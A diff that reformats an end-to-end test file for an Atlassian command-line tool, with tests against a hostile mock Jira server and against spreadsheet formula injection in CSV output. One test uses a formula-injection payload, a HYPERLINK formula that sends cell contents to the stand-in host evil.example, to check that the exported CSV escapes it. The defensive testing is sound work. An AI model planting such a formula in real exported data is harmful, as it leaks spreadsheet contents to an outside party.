@@ -15,7 +15,8 @@ let hostile: TestServer;
 beforeAll(async () => {
   hostile = await startTestServer((req, res) => {
     const path = new URL(req.url ?? '/', 'http://x').pathname;
-    if (req.method === 'GET' && path === '/rest/api/3/issue/ABC-1/transitions') sendJson(res, 200, { transitions: [{ id: '21', name: 'Close', to: { name: hostileName } }] });
+    if (req.method === 'GET' && path === '/rest/api/3/issue/ABC-1/transitions')
+      sendJson(res, 200, { transitions: [{ id: '21', name: 'Close', to: { name: hostileName } }] });
     else if (req.method === 'POST' && path === '/rest/api/3/issue/ABC-1/transitions') res.writeHead(204).end();
     else if (req.method === 'GET' && path === '/rest/api/3/myself') sendJson(res, 200, { accountId: 'a1', displayName: hostileName });
     else sendJson(res, 404, { errorMessages: ['not here'] });
@@ -25,7 +26,13 @@ afterAll(() => hostile?.close());
 
 const atHostile = (args: readonly string[]) =>
   e2e.home.run(args, {
-    env: { ATL_CONFIG_DIR: `${e2e.home.home}/hostile-config`, ATL_SITE: hostile.url, ATL_EMAIL: 'me@example.com', ATL_API_TOKEN: 'hostile-site-token', ATL_DEPLOYMENT: 'cloud' },
+    env: {
+      ATL_CONFIG_DIR: `${e2e.home.home}/hostile-config`,
+      ATL_SITE: hostile.url,
+      ATL_EMAIL: 'me@example.com',
+      ATL_API_TOKEN: 'hostile-site-token',
+      ATL_DEPLOYMENT: 'cloud',
+    },
     timeoutMs: 60_000,
   });
 
@@ -38,7 +45,19 @@ function expectNoControls(text: string): void {
 describe('--csv against spreadsheet formula injection', () => {
   test.concurrent('a summary starting with = gets a leading quote; --csv-raw keeps it exact', { timeout: 120_000 }, async () => {
     const summary = '=HYPERLINK("http://evil.example/?"&A1,"open")';
-    const created = await e2e.atl('cloud', ['jira', 'issue', 'create', '--project', 'DEMO', '--type', 'Task', '--summary', summary, '--no-input', '--json']);
+    const created = await e2e.atl('cloud', [
+      'jira',
+      'issue',
+      'create',
+      '--project',
+      'DEMO',
+      '--type',
+      'Task',
+      '--summary',
+      summary,
+      '--no-input',
+      '--json',
+    ]);
     expect(created.code, created.stderr).toBe(0);
     const key = (JSON.parse(created.stdout) as { key: string }).key;
     const csv = await e2e.atl('cloud', ['jira', 'search', `key = ${key}`, '--csv', '--fields', 'summary']);
